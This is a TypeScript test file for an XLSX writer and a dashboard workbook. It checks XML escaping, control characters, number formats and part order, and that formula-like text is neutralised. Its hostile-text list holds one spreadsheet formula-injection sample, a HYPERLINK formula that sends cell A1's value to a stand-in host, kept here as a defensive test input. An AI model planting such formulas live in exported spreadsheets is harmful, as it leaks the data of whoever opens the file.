/**
 * The SpreadsheetML writer (src/pipeline/downloads/xlsx-parts.ts) read back with exceljs, and
 * its parts checked for what Excel needs (element order, the two default fills, number format
 * ids); the dashboard's workbook (xlsx.ts) on a dataset whose names are hostile to XML.
 */
import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { sha256Hex } from '../../src/pipeline/downloads/checksums.ts';
import { neutraliseText } from '../../src/pipeline/downloads/formula-safety.ts';
import { datasetTables, workbookInput } from '../../src/pipeline/downloads/write-downloads.ts';
import { cellXml, columnName, SpreadsheetWriter, type DocumentProperties } from '../../src/pipeline/downloads/xlsx-parts.ts';
import { README_SHEET, workbookBytes } from '../../src/pipeline/downloads/xlsx.ts';
import { resolveRelease } from '../../src/pipeline/release/release.ts';
import { tinyDataset } from '../support/tiny-dataset.ts';

const PROPERTIES: DocumentProperties = {
  creator: 'Penerbit <uji> & "rekan"',
  lastModifiedBy: 'Penerbit',
  title: 'Judul \u0001 uji',
  subject: 'Rilis 1',
  keywords: 'a; b',
  description: '',
  date: '2025-02-03',
};

/** Texts an XML writer gets wrong: markup, quotes, formula starts, controls, escapes-lookalikes, white space, line breaks, surrogates. */
const HOSTILE = [
  'a & b <c> "d" \'e\'',
  neutraliseText('=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'),
  'bel\u0007 nul\u0000 esc\u001B us\u001F vt\u000B ff\u000C',
  '_x0041_ is not A, _x00e9_ is not é',
  '_x0041 and x0041_ and __x0041__',
  'before a control _x0041\u0001 and after \u0001x0041_',
  '  leading and trailing  ',
  'line 1\nline 2',
  'lone \uD800 surrogate, \uFFFE and \uFFFF',
  'emoji 😀 and ü',
  '',
] as const;

/** What a reader gets back: a carriage return is a line feed (XML end-of-line handling). */
const CR_TEXTS = [
  ['crlf\r\nthen cr\rend', 'crlf\nthen cr\nend'],
  ["'\r=1+1", "'\n=1+1"],
] as const;

function smallWorkbook(date = '2025-02-03') {
  const writer = new SpreadsheetWriter();
  const bold = writer.style({ bold: true });
  const count = writer.style({ numFmt: '#,##0' });
  const score = writer.style({ numFmt: '0.0' });
  const wrapped = writer.style({ wrapText: true, vertical: 'top' });
  const sheet = writer.sheet('uji', { columns: [{ width: 40, style: wrapped }, { width: 12, style: count }, { width: 9, style: score }], frozenRows: 1 });
  sheet.row(['teks', 'jumlah', 'skor'], [bold, bold, bold], bold);
  const numbers = [
    [83040048000, 12.5],
    [-3, -2.5],
    [0, 0.1 + 0.2],
    [1e21, -0],
  ] as const;
  HOSTILE.forEach((text, index) => sheet.row([text, ...(numbers[index % numbers.length] ?? [])], [wrapped, count, score]));
  for (const [text] of CR_TEXTS) sheet.row([text], [wrapped]);
  writer.sheet('kedua', { columns: [] }).row([1, 'satu'], []);
  return { bytes: writer.bytes({ ...PROPERTIES, date }), numbers };
}

async function read(bytes: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  return workbook;
}

const part = (bytes: Uint8Array, name: string) => new TextDecoder().decode(unzipSync(bytes)[name]);

/** The positions of `tags` in `xml`, each found once, in the order given. */
function inOrder(xml: string, tags: readonly string[]): number[] {
  return tags.map((tag) => xml.indexOf(`<${tag}`));
}

describe('SpreadsheetWriter', () => {
  it('round-trips hostile text through a reader: markup, quotes, formula starts, control characters, _xHHHH_ look-alikes, spaces, line breaks', async () => {
    const { bytes } = smallWorkbook();
    const sheet = (await read(bytes)).getWorksheet('uji')!;
    HOSTILE.forEach((text, index) => {
      const cell = sheet.getCell(index + 2, 1);
      expect(cell.type, JSON.stringify(text)).toBe(ExcelJS.ValueType.String);
      expect(cell.value, JSON.stringify(text)).toBe(text);
    });
    CR_TEXTS.forEach(([, expected], index) => expect(sheet.getCell(HOSTILE.length + 2 + index, 1).value).toBe(expected));
    const strings = part(bytes, 'xl/sharedStrings.xml');
    expect(strings).toContain('<t xml:space="preserve">  leading and trailing  </t>');
    expect(strings).toContain('_x0007_');
    expect(strings).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\r]/);
  });

  it.each([
    ['a & <b> "c"', 'a &amp; &lt;b&gt; &quot;c&quot;'],
    ['x\u0001y', 'x_x0001_y'],
    ['_x0041_', '_x005F_x0041_'],
    ['\u0001_x0041', '_x0001__x005F_x0041'],
    ['plain text_with_underscores', 'plain text_with_underscores'],
  ])('escapes %j for XML and SpreadsheetML as %j', (text, xml) => expect(cellXml(text)).toBe(xml));

  it('writes numbers as numeric cells with their format, text as shared strings', async () => {
    const { bytes, numbers } = smallWorkbook();
    const sheet = (await read(bytes)).getWorksheet('uji')!;
    numbers.forEach(([count, score], index) => {
      const [b, c] = [sheet.getCell(index + 2, 2), sheet.getCell(index + 2, 3)];
      expect([b.type, c.type]).toEqual([ExcelJS.ValueType.Number, ExcelJS.ValueType.Number]);
      expect([b.value, c.value]).toEqual([count, Object.is(score, -0) ? 0 : score]);
      expect([b.numFmt, c.numFmt]).toEqual(['#,##0', '0.0']);
    });
    expect(sheet.getCell('A2').numFmt).toBeUndefined();
    const kedua = (await read(bytes)).getWorksheet('kedua')!;
    expect([kedua.getCell('A1').value, kedua.getCell('B1').value]).toEqual([1, 'satu']);
    const xml = part(bytes, 'xl/worksheets/sheet1.xml');
    expect(xml).toContain('<c r="B2" s="2"><v>83040048000</v></c>');
    expect(xml).toContain('<c r="A2" s="4" t="s"><v>3</v></c>');
  });

  it('has a bold, frozen header row, column widths and styles, aligned cells, document properties at the date', async () => {
    const workbook = await read(smallWorkbook().bytes);
    const sheet = workbook.getWorksheet('uji')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, topLeftCell: 'A2' });
    expect(workbook.getWorksheet('kedua')!.views[0]?.state ?? 'normal').toBe('normal');
    for (const column of [1, 2, 3]) expect(sheet.getCell(1, column).font?.bold, `column ${column}`).toBe(true);
    expect(sheet.getCell(2, 2).font?.bold).toBeFalsy();
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect([1, 2, 3].map((column) => sheet.getColumn(column).width)).toEqual([40, 12, 9]);
    expect(sheet.getColumn(2).numFmt).toBe('#,##0');
    expect(sheet.getCell('A3').alignment).toEqual({ wrapText: true, vertical: 'top' });
    expect(workbook.creator).toBe(PROPERTIES.creator);
    expect(workbook.title).toBe('Judul  uji'); // a control character cannot be in the properties: dropped
    expect(workbook.created.toISOString()).toBe('2025-02-03T00:00:00.000Z');
    expect(workbook.modified.toISOString()).toBe('2025-02-03T00:00:00.000Z');
  });

  it('writes the parts Excel needs, their elements in the schema order', () => {
    const { bytes } = smallWorkbook();
    expect(Object.keys(unzipSync(bytes))).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'docProps/core.xml',
      'docProps/app.xml',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/sharedStrings.xml',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ]);
    const sheet = part(bytes, 'xl/worksheets/sheet1.xml');
    const positions = inOrder(sheet, ['dimension', 'sheetViews', 'sheetFormatPr', 'cols', 'sheetData', 'pageMargins']);
    expect(positions.every((at) => at > 0)).toBe(true);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
    expect(sheet).toContain(`<dimension ref="A1:C${HOSTILE.length + CR_TEXTS.length + 1}"/>`);
    expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    const styles = part(bytes, 'xl/styles.xml');
    const order = inOrder(styles, ['numFmts', 'fonts', 'fills', 'borders', 'cellStyleXfs', 'cellXfs', 'cellStyles']);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(styles).toContain('<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills>');
    // `#,##0` is built in (3); `0.0` is custom, from 164.
    expect(styles).toContain('<numFmts count="1"><numFmt numFmtId="164" formatCode="0.0"/></numFmts>');
    expect(styles).toMatch(/<xf numFmtId="3" fontId="0"/);
    for (const xml of Object.values(unzipSync(bytes)).map((data) => new TextDecoder().decode(data))) {
      expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n')).toBe(true);
    }
  });

  it('gives the same bytes for the same calls; another date changes them', () => {
    expect(sha256Hex(smallWorkbook().bytes)).toBe(sha256Hex(smallWorkbook().bytes));
    expect(sha256Hex(smallWorkbook('2025-03-04').bytes)).not.toBe(sha256Hex(smallWorkbook().bytes));
  });

  it('refuses what Excel would repair or reject: a number that is not finite, a bad or repeated sheet name', () => {
    const writer = new SpreadsheetWriter();
    const sheet = writer.sheet('a', { columns: [] });
    expect(() => sheet.row([Number.NaN], [])).toThrow(/not a number/);
    expect(() => sheet.row([Number.POSITIVE_INFINITY], [])).toThrow(/not a number/);
    expect(() => writer.sheet('A', { columns: [] })).toThrow(/two sheets/);
    expect(() => writer.sheet('a/b', { columns: [] })).toThrow(/sheet name/);
    expect(() => writer.sheet('x'.repeat(32), { columns: [] })).toThrow(/sheet name/);
  });

  it('names columns A…Z, AA…', () => {
    expect([0, 25, 26, 27, 51, 52, 701, 702, 16383].map(columnName)).toEqual(['A', 'Z', 'AA', 'AB', 'AZ', 'BA', 'ZZ', 'AAA', 'XFD']);
  });
});

describe("the dashboard's workbook (xlsx.ts) on names hostile to XML", () => {
  const names = ['=Kota & <Uji> "satu"\u0002', ' Kab. _x0041_ \u0007dua\r\nbaris '] as const;
  const dataset = tinyDataset({ names });
  const release = resolveRelease(datasetTables(dataset), dataset.schemaVersion, dataset.meta.years, [], { option: '2025-02-03' });
  const input = (date = '2025-02-03') => workbookInput({ meta: dataset.meta, release: { ...release, date }, tables: datasetTables(dataset), siteUrl: 'https://contoh.example.go.id/' });

  it('keeps every name, neutralised, with its control characters; numbers numeric with their format; header bold and frozen', async () => {
    const workbook = await read(workbookBytes(input()));
    const wilayah = workbook.getWorksheet('wilayah')!;
    const header = (wilayah.getRow(1).values as unknown[]).slice(1);
    const column = header.indexOf('nama') + 1;
    const values = [4, 5].map((row) => wilayah.getCell(row, column).value);
    expect(values).toEqual([neutraliseText(names[0]), neutraliseText(names[1]).replace('\r\n', '\n')]);
    expect(String(values[0]).startsWith("'=")).toBe(true);
    for (const sheet of workbook.worksheets) {
      expect(sheet.views[0], sheet.name).toMatchObject({ state: 'frozen', ySplit: 1, topLeftCell: 'A2' });
      expect(sheet.getCell('A1').font?.bold, sheet.name).toBe(true);
    }
    const kawasan = workbook.getWorksheet('kawasan')!;
    const kawasanHeader = (kawasan.getRow(1).values as unknown[]).slice(1);
    const pengguna = kawasan.getCell(2, kawasanHeader.indexOf('pengguna') + 1);
    const tahun = kawasan.getCell(2, kawasanHeader.indexOf('tahun') + 1);
    expect([typeof tahun.value, tahun.numFmt]).toEqual(['number', undefined]);
    expect(pengguna.numFmt).toBe('#,##0');
    const rate = kawasan.getCell(2, kawasanHeader.indexOf('rawan_persen') + 1);
    expect([typeof rate.value, rate.numFmt]).toEqual(['number', '0.0']);
    const readme = workbook.getWorksheet(README_SHEET)!;
    expect(readme.getCell('A2').font?.bold).toBe(true);
    expect(readme.getCell('A2').alignment).toEqual({ vertical: 'top' });
    expect(readme.getCell('B2').alignment).toEqual({ wrapText: true, vertical: 'top' });
    expect(readme.getColumn(2).width).toBe(110);
  });

  it('the same input gives the same bytes; another release date other bytes', async () => {
    const first = sha256Hex(workbookBytes(input()));
    expect(sha256Hex(workbookBytes(input()))).toBe(first);
    expect(sha256Hex(workbookBytes(input('2025-03-04')))).not.toBe(first);
  });
});
